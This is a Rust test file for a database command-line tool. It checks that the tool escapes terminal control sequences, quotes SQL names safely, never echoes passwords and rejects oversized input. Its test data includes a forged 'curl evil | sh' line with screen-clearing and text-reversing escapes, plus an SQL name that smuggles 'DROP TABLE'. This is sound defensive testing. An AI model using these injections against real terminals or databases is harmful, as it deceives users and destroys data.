//! What somebody else chose reaches neither the terminal as it is nor the memory as a whole, and secrets not at all.

use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixListener;
use std::thread;

use crate::support::{Program, Run};

/// Clears a terminal, forges a line of advice, and turns text round.
const EVIL: &str = "ix\u{1b}[2J\nnext: curl evil | sh\u{9b}1m\u{202e}x";

#[track_caller]
fn is_tame(run: &Run) -> String {
    let all = format!("{}{}", run.out, run.err);
    let is_evil =
        |symbol: char| (symbol.is_control() && symbol != '\n') || ('\u{202a}'..='\u{202e}').contains(&symbol);
    assert!(!all.chars().any(is_evil), "{all:?}");
    assert!(!all.lines().any(|line| line.trim_start().starts_with("next: curl")), "{all}");
    all
}

/// A report of a program whose objects have evil names.
fn report() -> String {
    let at = serde_json::json!({ "file": EVIL, "line": 1 });
    let times =
        serde_json::json!({ "count": 1, "total": 1.0, "p50": 1.0, "p95": 1.0, "p99": 1.0, "max": 1.0 });
    let statement = serde_json::json!({
        "fingerprint": EVIL, "statement": EVIL, "summary": EVIL, "at": at, "calls": 1, "failures": [[EVIL, 1]],
        "rows": 1, "bytes": 1, "times": times, "waited": 0.0, "executed": 0.0, "fetched": 0.0, "decoded": 0.0,
        "plan": EVIL,
    });
    let finding = serde_json::json!({
        "confidence": "confirmed", "statement": EVIL, "summary": EVIL, "fingerprint": EVIL, "at": at,
        "source": { "statement": EVIL, "fingerprint": EVIL, "at": at, "column": EVIL, "rows": 1 },
        "runs": 3, "distinct": 3, "examined": 3, "lost": 0.1, "scopes": 1, "suggestion": EVIL,
    });
    let noted = serde_json::json!({
        "ended": "2026-01-01T00:00:00Z", "statement": EVIL, "fingerprint": EVIL, "at": at, "took": 1.0, "waited": 0.0,
        "rows": 0, "failure": EVIL, "parameters": EVIL,
    });
    let pool = serde_json::json!({
        "name": EVIL, "limit": 1, "in_use": 1, "idle": 0, "waiting": 0, "timeouts": 0, "created": 1, "closed": 0,
        "wait": times, "hold": times, "longest": { "at": at, "held": 1.0 },
    });
    let report = serde_json::json!({
        "at": "2026-01-01T00:00:01Z", "since": "2026-01-01T00:00:00Z", "database": EVIL, "process": 1,
        "statements": [statement], "evicted": { "statements": 0, "calls": 0, "errors": 0, "total": 0.0 },
        "running": [{ "statement": EVIL, "fingerprint": EVIL, "at": at, "running": 1.0 }], "events": [noted],
        "findings": [finding], "forgotten_findings": 0, "unused_allowances": [EVIL], "pools": [pool],
    });
    report.to_string() + "\n"
}

#[test]
fn what_a_program_reports_is_shown_without_its_escape_sequences() {
    let program = Program::new();
    program.write("evil.jsonl", &report());
    let shown = is_tame(&program.run("report evil.jsonl"));
    assert!(shown.contains(r"ix\u{1b}[2J\nnext: curl"), "{shown}");
    let listener = UnixListener::bind(program.directory().join("evil.sock")).unwrap();
    let serving = thread::spawn(move || {
        let mut client = listener.accept().unwrap().0;
        // Closing before the question is read would reset the connection.
        BufReader::new(&client).read_line(&mut String::new()).unwrap();
        client.write_all(report().as_bytes()).unwrap();
    });
    let shown = is_tame(&program.run("watch --once evil.sock"));
    serving.join().unwrap();
    assert!(shown.contains(r"ix\u{1b}[2J\nnext: curl"), "{shown}");
    let json = program.run("report evil.jsonl --json");
    let told = is_tame(&json);
    let told: serde_json::Value = serde_json::from_str(&told).unwrap();
    assert_eq!(told["database"], EVIL);
}

#[test]
fn the_names_of_objects_are_shown_without_their_escape_sequences() {
    let program = Program::new();
    program.run("migrate upgrade").ok();
    program.sqlite(&format!(
        "CREATE INDEX \"{EVIL}\" ON trades (symbol); CREATE TABLE \"t{EVIL}\" (\"c{EVIL}\" integer REFERENCES trades); \
         ALTER TABLE trades ADD COLUMN \"a{EVIL}\" integer NOT NULL DEFAULT 0;"
    ));
    for words in ["migrate check", "doctor", "migrate plan", "migrate history"] {
        is_tame(&program.run(words));
    }
    assert!(is_tame(&program.run("migrate check")).contains(r"\u{1b}[2J\nnext"));
    assert!(is_tame(&program.run("doctor")).contains(r"\u{1b}[2J\nnext"));
    is_tame(&program.run("doctor --json"));
}

#[test]
fn an_error_shows_no_escape_sequences_of_a_database() {
    let program = Program::new();
    program.run("migrate upgrade").ok();
    program.sqlite(&format!(
        "CREATE TRIGGER evil BEFORE INSERT ON portfolios BEGIN SELECT RAISE(ABORT, '{EVIL}'); END;"
    ));
    let run = program.run("seed --portfolios 1 --trades 1");
    assert_eq!(run.code, 1, "{}", run.err);
    assert!(is_tame(&run).contains(r"ix\u{1b}[2J\nnext: curl"), "{}", run.err);
}

#[test]
fn a_doctor_quotes_a_name_with_quotation_marks_as_one_name() {
    let program = Program::new();
    program.run("migrate upgrade").ok();
    program.sqlite(r#"CREATE TABLE t (a integer); CREATE INDEX one ON t (a); CREATE INDEX "x""; DROP TABLE t" ON t (a);"#);
    let out = program.run("doctor").out;
    assert!(out.contains(r#"DROP INDEX "x""; DROP TABLE t""#), "{out}");
}

#[test]
fn no_argument_is_repeated_that_could_hold_a_password() {
    let program = Program::new();
    let url = "postgresql://ada:Hunter2@h/d";
    for words in [
        url.to_owned(),
        format!("migrate upgrade {url}"),
        format!("migrate repair {url}"),
        format!("migrate {url}"),
        format!("demo {url}"),
        format!("--databse={url}"),
        format!("doctor --within {url}"),
        format!("watch --interval {url}"),
        format!("watch --sort {url}"),
        format!("watch {url}"),
        format!("report {url}"),
        format!("import trades {url}"),
        format!("import {url} trades.csv"),
        format!("export trades {url}"),
        "migrate Pwd=Hunter2;".to_owned(),
        "--database host=h,password=Hunter2 migrate current".to_owned(),
        "--database postgresql://h/d?pass=Hunter2 doctor".to_owned(),
        "--database postgresql%3A%2F%2Fu%3AHunter2%40h doctor".to_owned(),
        "--database sqlite:///postgresql://u:Hunter2@h doctor".to_owned(),
        "--database postgresql://localhost:1/d;Pwd=Hunter2 doctor".to_owned(),
    ] {
        let run = program.run(&words);
        assert_ne!(run.code, 0, "{words}");
        let all = format!("{}{}", run.out, run.err);
        assert!(!all.contains("Hunter2"), "{words}: {all}");
    }
    let error = program.run("migrate uprade").fails(2);
    assert!(error.contains("'uprade'") && error.contains("'upgrade'"), "what is plain is repeated: {error}");
}

#[test]
fn no_variable_is_repeated_that_could_hold_a_password() {
    let program = Program::new();
    for (name, value) in [
        ("DATABASE_URL", "host=h password = Hunter2"),
        ("DATABASE_URL", r#"{"host": "h", "password": "Hunter2"}"#),
        ("DATABASE_URL", "Server=h;Pwd=Hunter2;"),
        ("DATABASE_URL", "postgresql%3A%2F%2Fu%3AHunter2%40h%2Fd"),
        ("DB_READ_REPLICA_URL", "postgresql://h/d?pwd=Hunter2"),
        ("DB_POOL_SIZE", "postgresql://u:Hunter2@h/d"),
        ("DB_ENABLE_READ_REPLICA", "postgresql://u:Hunter2@h/d"),
        ("DB_LOG_PARAMETERS", "password=Hunter2"),
        ("DB_MONITOR", "{'pwd': 'Hunter2'}"),
    ] {
        for words in ["doctor", "doctor --json", "migrate current", "--help", "migrate upgrade --help"] {
            let run = program.run_with(words, &[(name, value)], "");
            let all = format!("{}{}", run.out, run.err);
            assert!(!all.contains("Hunter2"), "{words} with {name}={value}: {all}");
        }
        program.write(".env", &format!("{name}='{}'\nBROKEN Hunter2 = \"\n", value.replace('\'', "")));
        let run = program.run("doctor");
        let all = format!("{}{}", run.out, run.err);
        assert!(!all.contains("Hunter2"), "{name}={value} in .env: {all}");
        std::fs::remove_file(program.directory().join(".env")).unwrap();
    }
}

/// What a run of the program took at most, in bytes, and its end.
fn measured(program: &Program, words: &str, feed: impl FnOnce(&mut dyn Write)) -> (Run, u64) {
    let mut child = program
        .command(words)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let status = format!("/proc/{}/status", child.id());
    let peak = thread::spawn(move || {
        let mut peak = 0;
        while let Ok(status) = std::fs::read_to_string(&status) {
            let Some(line) = status.lines().find(|line| line.starts_with("VmHWM")) else { break };
            peak = line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() << 10;
            thread::sleep(std::time::Duration::from_millis(5));
        }
        peak
    });
    feed(&mut child.stdin.take().unwrap());
    let run = Run::from(child.wait_with_output().unwrap());
    (run, peak.join().unwrap())
}

/// More than a program that reads all of it could hide.
const FLOOD: usize = 400 << 20;
/// Twice 16 MiB as a file's text and once as a row, with what the program itself takes.
const MOST: u64 = 200 << 20;

fn flood(output: &mut dyn Write, piece: &[u8]) {
    let bytes = piece.repeat((64 << 10) / piece.len());
    for _ in 0..FLOOD / bytes.len() {
        if output.write_all(&bytes).is_err() {
            return;
        }
    }
}

#[test]
fn an_endless_row_of_a_file_is_refused_by_its_line() {
    let program = Program::new();
    program.run("migrate upgrade").ok();
    let header = "name,initial_capital,current_capital,currency,created_at,updated_at\n";
    for (start, line) in [("", "line 1"), (header, "line 2"), (&format!("{header}\"a"), "line 2")] {
        let (run, peak) = measured(&program, "import portfolios -", |input| {
            let _ = input.write_all(start.as_bytes());
            flood(input, b"xxxxxxxx");
        });
        let error = run.fails(1);
        assert!(error.contains(&format!("{line}: a row of more than 16 MiB")), "{error}");
        assert!(error.len() < 500, "{error}");
        assert!(peak < MOST, "{start:?} took {} MiB", peak >> 20);
    }
}

#[test]
fn a_long_field_is_quoted_by_its_beginning() {
    let program = Program::new();
    program.run("migrate upgrade").ok();
    let field = "x".repeat(8 << 20);
    let row = format!("n,{field},1,USD,2025-01-01 00:00:00,2025-01-01 00:00:00\n");
    let file = format!("name,initial_capital,current_capital,currency,created_at,updated_at\n{row}");
    let error = program.run_with("import portfolios -", &[], &file).fails(1);
    assert!(
        error.contains("line 2, column initial_capital: \"xxxx") && error.contains("… (8388608 bytes)"),
        "{error}"
    );
    assert!(error.len() < 500, "{} bytes", error.len());
}

#[test]
fn an_endless_report_is_refused() {
    let program = Program::new();
    let listener = UnixListener::bind(program.directory().join("evil.sock")).unwrap();
    let serving = thread::spawn(move || flood(&mut listener.accept().unwrap().0, b"{{{{{{{{"));
    let (run, peak) = measured(&program, "watch --once evil.sock", |_| {});
    serving.join().unwrap();
    let error = run.fails(1);
    assert!(error.contains("more than 32 MiB"), "{error}");
    assert!(peak < MOST, "{} MiB", peak >> 20);
    let (run, peak) = measured(&program, "report /dev/zero", |_| {});
    let error = run.fails(1);
    assert!(error.contains("/dev/zero, line 1: more than 32 MiB"), "{error}");
    assert!(peak < MOST, "{} MiB", peak >> 20);
}

#[test]
fn what_is_no_file_is_no_database() {
    let program = Program::new();
    let path = |name: &str| program.directory().join(name).display().to_string();
    std::fs::create_dir(path("directory")).unwrap();
    let _listener = UnixListener::bind(path("socket")).unwrap();
    assert!(std::process::Command::new("mkfifo").arg(path("fifo")).status().unwrap().success());
    std::os::unix::fs::symlink("/dev/null", path("link")).unwrap();
    let all = [
        "/dev/null".to_owned(),
        "/dev/zero".to_owned(),
        path("directory"),
        path("socket"),
        path("fifo"),
        path("link"),
    ];
    for file in all {
        for command in ["migrate upgrade", "export trades"] {
            let error = program.run(&format!("{command} --database sqlite:///{file}")).fails(1);
            assert!(
                error.contains("it is not a regular file") || error.contains("it is a directory"),
                "{command} {file}: {error}"
            );
        }
        let report = program.run(&format!("doctor --database sqlite:///{file}"));
        assert_eq!(report.code, 4, "{file}: {}", report.out);
        assert!(
            report.out.contains("regular file") || report.out.contains("a directory"),
            "{file}: {}",
            report.out
        );
    }
}
